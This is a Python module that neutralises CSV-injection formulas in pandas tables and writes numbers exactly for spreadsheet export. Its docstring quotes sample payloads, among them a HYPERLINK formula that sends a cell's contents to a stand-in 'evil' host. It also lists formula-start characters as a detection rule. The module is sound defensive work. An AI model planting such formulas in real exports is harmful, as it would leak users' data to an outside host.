"""Tables made safe to open in a spreadsheet: no text cell can run as a formula (CSV injection).

    safe = neutralise_formulas(frame); safe.to_csv(path, index=False)
    spreadsheet_csv(frame, path)  # the same, with every number written exactly (every CSV the app writes)

A patient id or group label such as `=HYPERLINK("http://evil/?"&A1)` or `@SUM(1+1)` is data to us,
but Excel, LibreOffice and Google Sheets run it as a formula when the CSV is opened. Following OWASP's
CSV-injection guidance, a text cell starting with = + - @, a tab or a carriage return is written with
a leading apostrophe, which spreadsheets take as "this is text". Real numbers are left alone, and so is
text that is just a plain number ("-1.5", "+3"): that is a value, not a formula.

Not a library: `defusedcsv` does this, but only by wrapping the standard library's csv writer, which
pandas' `to_csv` does not use (it has its own C writer), and its rule misses a leading tab and
carriage return. openpyxl needs it too: it stores any string starting with "=" as a formula.
"""

from __future__ import annotations

import math
import re
from pathlib import Path

import numpy as np
import pandas as pd

# OWASP: the characters a spreadsheet reads as the start of a formula (tab and CR can precede one)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def neutralise_cell(value: object) -> object:
    """The value, with a leading apostrophe when it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def neutralise_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of the frame in which no text cell (nor column name) can be read as a formula.

    Numeric, boolean and date columns are left as they are; text columns keep their dtype
    (categorical ones become plain text).
    """
    safe = frame.copy()
    safe.columns = [neutralise_cell(c) for c in frame.columns]
    for i in range(frame.shape[1]):  # by position: column names may repeat
        column = frame.iloc[:, i]
        if isinstance(column.dtype, pd.CategoricalDtype):
            safe.isetitem(i, column.astype(object).map(neutralise_cell, na_action="ignore"))
        elif pd.api.types.is_object_dtype(column.dtype) or pd.api.types.is_string_dtype(column.dtype):
            safe.isetitem(i, column.map(neutralise_cell, na_action="ignore").astype(column.dtype))
    return safe


# --- numbers exactly as given ---------------------------------------------------------------------------
# Every CSV the app writes goes through `spreadsheet_csv`, so every number is written one way: to 15
# significant digits, in the shortest text that reads back as that number. 15 digits is what a double
# keeps of any decimal input, so every number a user typed with up to 15 significant digits comes out
# exactly as typed (1000000000.25, 1e+308), and the last bits of binary arithmetic are not written
# (0.1 + 0.2 is 0.3, a Kaplan-Meier 4/5 x 3/4 is 0.6). An input with more digits is warned at
# validation (validation._more_digits_than_kept). A fixed precision such as "%.10g" silently rounded:
# 1000000000.25 became 1000000000, and a dose of 1e308 "inf".
SIGNIFICANT_DIGITS = 15


def exact_number(value: float) -> str:
    """The number to 15 significant digits in its shortest text: '5' (not '5.0'), '1000000000.25',
    '1e+308', '0.3' for 0.1 + 0.2; '0' for -0.0; '' for a missing or non-finite value (an estimate
    that does not exist)."""
    if value != value or value in (math.inf, -math.inf):
        return ""
    value = float(f"{float(value):.{SIGNIFICANT_DIGITS}g}")
    if value == 0:
        return "0"  # no "-0"
    if value.is_integer() and abs(value) < 1e16:
        return str(int(value))  # whole numbers as typed; below 1e16 every whole float is exact
    return repr(value)


def exact_numbers(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of the frame with every float column as exact text (see `exact_number`); other columns as they are."""
    out = frame.copy()
    for i in range(frame.shape[1]):  # by position: column names may repeat
        column = frame.iloc[:, i]
        if pd.api.types.is_float_dtype(column.dtype):
            values = column.to_numpy(dtype=float, na_value=np.nan)
            out.isetitem(i, pd.Series([exact_number(float(v)) for v in values], index=frame.index, dtype=object))
        elif column.dtype == object and column.map(lambda v: isinstance(v, float)).any():
            # a mixed column (numbers among text): its floats are written the same way
            out.isetitem(i, column.map(lambda v: exact_number(v) if isinstance(v, float) else v))
    return out


def spreadsheet_csv(frame: pd.DataFrame, path: str | Path | None = None) -> str | None:
    """The frame as CSV, safe to open in a spreadsheet (no formulas) and with every number exact; written to
    `path` when given (and None returned), else returned as text. A missing value is an empty field."""
    safe = exact_numbers(neutralise_formulas(frame))
    return safe.to_csv(path, index=False, na_rep="")
